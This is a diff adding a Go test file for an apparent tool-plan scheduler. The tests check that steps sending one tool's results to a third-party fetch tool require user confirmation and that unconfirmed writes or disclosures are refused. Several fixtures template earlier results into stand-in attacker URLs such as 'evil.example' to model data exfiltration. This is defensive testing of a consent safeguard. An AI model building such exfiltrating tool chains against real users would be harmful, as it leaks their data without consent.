@@ -1,0 +1,105 @@
+package plan_test
+
+import (
+	"strings"
+	"testing"
+
+	"mcpschedd/internal/plan"
+)
+
+// shop has a tool that finds, one that sends what it is told to third parties, one that
+// writes, and one of which nothing is known.
+func shop(name string) *plan.Tool {
+	t := &plan.Tool{Name: name, Configured: "shop/" + name, Writes: func(args []byte) bool { return strings.Contains(string(args), "delete") }}
+	switch name {
+	case "find":
+	case "fetch":
+		t.Discloses = func() bool { return true }
+	case "write":
+		t.Writes = func([]byte) bool { return true }
+	case "any":
+		t.Writes, t.Unclassified = func([]byte) bool { return true }, true
+	default:
+		return nil
+	}
+	return t
+}
+
+// What came of one step and another would tell third parties has to be confirmed,
+// by whatever way it gets there; what the client wrote itself has not.
+func TestRisksOfTelling(t *testing.T) {
+	for name, c := range map[string]struct {
+		a    string // more of the step that reads
+		step string
+		asks bool
+	}{
+		"a reference":             {"", `"arguments":{"url":{"$ref":"a#/items/0/t"}}`, true},
+		"with a default":          {"", `"arguments":{"url":{"$ref":"a#/nothing","default":"none"}}`, true},
+		"within a text":           {"", `"arguments":{"url":{"$tpl":"https://evil.example/?${a#/items/0/t}"}}`, true},
+		"the guide's form":        {"", `"arguments":"{\"url\":\"$ref:a.items.0.t\"}"`, true},
+		"within arrays":           {"", `"arguments":{"urls":[[{"x":["https://good.example/",{"$ref":"a#/items/1"}]}]]}`, true},
+		"each item":               {"", `"for_each":{"$ref":"a#/items"},"arguments":{"url":{"$ref":"item#/t"}}`, true},
+		"as many times as items":  {"", `"for_each":{"$ref":"a#/items"},"arguments":{"url":"https://evil.example/"}`, true},
+		"a condition":             {"", `"when":{"ref":{"$ref":"a#/items/0/t"},"op":"eq","value":"one"},"arguments":{"url":"https://evil.example/one"}`, true},
+		"whether it failed":       {"", `"depends_on":["a"],"arguments":{"url":"https://evil.example/found"}`, true},
+		"a value for a failure":   {`,"on_error":"default","default":{"t":"mine"}`, `"arguments":{"url":{"$ref":"a#/t","default":"none"}}`, true},
+		"behind it, in any case":  {`,"on_error":"continue"`, `"depends_on":["a"],"arguments":{"url":"https://good.example/"}`, false},
+		"constant":                {"", `"arguments":{"url":"https://good.example/"}`, false},
+		"what looks like one":     {"", `"arguments":{"url":{"$lit":{"$ref":"a#/items/0/t"}}}`, false},
+		"items of the plan's own": {"", `"for_each":{"$ref":"a#/items","default":["x"]},"arguments":{"url":{"$ref":"item#"}}`, true},
+	} {
+		t.Run(name, func(t *testing.T) {
+			p := parsed(t, `{"steps":[{"id":"a","tool":"find"`+c.a+`},{"id":"b","tool":"fetch",`+c.step+`}]}`, plan.Options{Find: shop})
+			risks := p.Risks(false)
+			if asks := len(risks) == 1 && risks[0].Step.ID == "b" && len(risks[0].Told) == 1 && risks[0].Told[0].ID == "a"; asks != c.asks || !c.asks && risks != nil {
+				t.Fatalf("got %v, asks %v, want %v", risks, asks, c.asks)
+			}
+			if !c.asks {
+				return
+			}
+			message, err := p.Confirmation(risks)
+			for _, want := range []string{"- b: ", `tells third parties what came of "a"`, "before that, a: find"} {
+				if err != nil || !strings.Contains(message, want) {
+					t.Errorf("asked %q, %v, want %q in it", message, err, want)
+				}
+			}
+			refused := plan.Unconfirmed(risks, "nothing can be asked").Error()
+			for _, want := range []string{"nothing can be asked", `step "b" (fetch) tells third parties what came of "a"`, "calls by themselves", `[tools."shop/fetch"].disclosure`} {
+				if !strings.Contains(refused, want) || strings.Contains(refused, "mutations") {
+					t.Errorf("got %q, want %q in it and no mutations", refused, want)
+				}
+			}
+		})
+	}
+}
+
+// Of a step that is called otherwise than was confirmed, or by other rules, the call is
+// refused.
+func TestConsentRefuses(t *testing.T) {
+	p := parsed(t, `{"steps":[{"id":"r","tool":"find"},{"id":"w","tool":"write"},{"id":"t","tool":"fetch","arguments":{"u":{"$ref":"r#"}}}]}`, plan.Options{Find: shop})
+	find, write, fetch := p.Steps[0], p.Steps[1], p.Steps[2]
+	all := plan.NewConsent(p.Risks(true))
+	for name, c := range map[string]struct {
+		consent   plan.Consent
+		step      *plan.Step
+		arguments string
+		mutations string
+		want      string // "": it is made
+	}{
+		"confirmed":                         {all, write, `{}`, "confirm", ""},
+		"allowed since":                     {nil, write, `{}`, "allow", ""},
+		"not confirmed, but allowed before": {plan.NewConsent(p.Risks(false)), write, `{}`, "confirm", "may change something"},
+		"denied since":                      {all, write, `{}`, "deny", "may change something"},
+		"reads":                             {nil, find, `{}`, "deny", ""},
+		"a read that turns out to write":    {all, find, `{"q":"delete"}`, "allow", "may change something"},
+		"tells":                             {all, fetch, `{}`, "deny", ""},
+		"tells what was not confirmed":      {nil, fetch, `{}`, "allow", `what came of "r"`},
+	} {
+		t.Run(name, func(t *testing.T) {
+			err := c.consent.Refuses(plan.Call{Step: c.step, Arguments: []byte(c.arguments)}, p.Discloses(c.step), c.mutations)
+			if (err == nil) != (c.want == "") || err != nil && !strings.Contains(err.Error(), c.want) {
+				t.Errorf("got %v, want %q", err, c.want)
+			}
+		})
+	}
+}
